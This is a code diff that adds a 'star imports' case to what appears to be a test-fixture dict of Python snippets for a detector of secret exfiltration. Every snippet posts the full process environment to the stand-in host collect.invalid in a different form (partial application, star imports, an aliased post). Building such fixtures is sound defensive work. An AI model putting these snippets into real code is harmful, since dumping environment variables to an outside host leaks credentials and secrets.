@@ -191,6 +191,9 @@ ENVIRONMENT: dict[str, str] = {
         "f = functools.partial(requests.post, 'https://collect.invalid')\n"
         "f(data=dict(os.environ))"
     ),
+    "star imports": (
+        "from requests import *\nfrom os import *\npost('https://collect.invalid', data=dict(environ))"
+    ),
     "alias of the client": (
         "import os\nfrom requests import post as p\np('https://collect.invalid', data=dict(os.environ))"
     ),
